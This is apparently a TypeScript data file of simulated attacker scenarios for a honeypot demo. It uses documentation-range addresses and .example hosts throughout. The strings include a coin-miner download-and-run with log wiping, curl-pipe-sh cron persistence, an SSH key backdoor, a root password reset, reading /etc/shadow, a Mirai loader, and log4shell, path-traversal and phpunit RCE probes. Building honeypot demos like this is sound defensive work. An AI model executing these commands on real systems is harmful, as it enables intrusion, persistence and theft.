/**
 * What the demo's attackers do. Commands are of the kinds seen in public honeypot logs; every address is from the
 * documentation ranges (RFC 5737) and every host name ends in .example (RFC 2606), so nothing points at anyone.
 */
export type Scenario =
  | { readonly kind: 'ssh-scan'; readonly name: string }
  | {
      readonly kind: 'ssh-brute-force';
      readonly name: string;
      readonly credentials: readonly (readonly [string, string])[];
    }
  | { readonly kind: 'ssh-exec'; readonly name: string; readonly commands: readonly string[] }
  | { readonly kind: 'ssh-shell'; readonly name: string; readonly lines: readonly string[] }
  | {
      readonly kind: 'ssh-upload';
      readonly name: string;
      readonly path: string;
      readonly content: Uint8Array;
      readonly afterwards: readonly string[];
    }
  | { readonly kind: 'telnet-loader'; readonly name: string; readonly lines: readonly string[] }
  | { readonly kind: 'http'; readonly name: string; readonly requests: readonly HttpRequest[] };

export interface HttpRequest {
  readonly method: 'GET' | 'POST';
  readonly path: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: string;
}

/** The first bytes of a 64-bit ELF executable: enough to be kept and recognised, not enough to run. */
const ELF_HEADER = Uint8Array.from([
  0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0x3e, 0, 1, 0, 0, 0,
]);

/** What a log4shell probe sends, by CVE-2021-44228. */
const JNDI_LOOKUP = '$' + '{jndi:ldap://callback.example/a}';

export const SCENARIOS: readonly Scenario[] = [
  { kind: 'ssh-scan', name: 'banner scan' },
  {
    kind: 'ssh-brute-force',
    name: 'password list',
    credentials: [
      ['root', 'root'],
      ['admin', 'admin'],
      ['root', '123456'],
      ['ubuntu', 'ubuntu'],
      ['oracle', 'oracle'],
    ],
  },
  {
    kind: 'ssh-exec',
    name: 'survey of a fresh login',
    commands: [
      'uname -s -v -n -r -m',
      'cat /proc/cpuinfo | grep name | wc -l',
      'free -m | grep Mem',
      'ls -lh $(which ls)',
      'w',
      'nproc',
    ],
  },
  {
    kind: 'ssh-exec',
    name: 'coin miner',
    commands: [
      'cd /tmp || cd /var/run || cd /dev/shm; wget http://203.0.113.10/bins/xmrig -O .x; chmod +x .x; ./.x -o pool.example:3333 -u wallet',
      'pkill -9 kinsing; pkill -9 xmr; rm -rf /var/log/syslog; history -c',
      '(crontab -l; echo "*/5 * * * * curl -fsSL http://203.0.113.10/a.sh | sh") | crontab -',
    ],
  },
  {
    kind: 'ssh-exec',
    name: 'key persistence',
    commands: [
      'cd ~; chattr -ia .ssh; lockr -ia .ssh',
      'rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDdemo mdrfckr" >> .ssh/authorized_keys && chmod -R go= ~/.ssh',
      'echo "root:Kx8vQ2nLw0aa"|chpasswd|bash',
      'cat /etc/shadow',
    ],
  },
  {
    kind: 'ssh-shell',
    name: 'a person looking around',
    lines: [
      'whoami',
      'id',
      'cat /etc/passwd',
      'ls -la /home',
      'sudo -l',
      'find / -perm -4000 -type f 2>/dev/null | head',
      'ip addr; ss -tlnp',
      'curl -s http://198.51.100.7/linpeas.sh | bash',
      'unset HISTFILE',
      'exit',
    ],
  },
  {
    kind: 'ssh-upload',
    name: 'uploaded executable',
    path: '/tmp/sshd',
    content: ELF_HEADER,
    afterwards: ['chmod 777 /tmp/sshd; nohup /tmp/sshd >/dev/null 2>&1 &'],
  },
  {
    kind: 'telnet-loader',
    name: 'IoT loader',
    lines: [
      'enable',
      'system',
      'shell',
      'sh',
      '/bin/busybox ECCHI',
      'cat /proc/mounts; /bin/busybox ECCHI',
      'cd /tmp; /bin/busybox wget http://198.51.100.23/mirai.x86 -O - > dvrHelper; chmod 777 dvrHelper; ./dvrHelper telnet; /bin/busybox ECCHI',
    ],
  },
  {
    kind: 'http',
    name: 'web exploit probes',
    requests: [
      { method: 'GET', path: '/' },
      { method: 'GET', path: '/.env' },
      { method: 'GET', path: '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh' },
      { method: 'GET', path: '/', headers: { 'user-agent': JNDI_LOOKUP } },
      { method: 'POST', path: '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', body: '<?php system("id");' },
      {
        method: 'POST',
        path: '/login',
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
        body: 'username=admin&password=admin123',
      },
    ],
  },
];
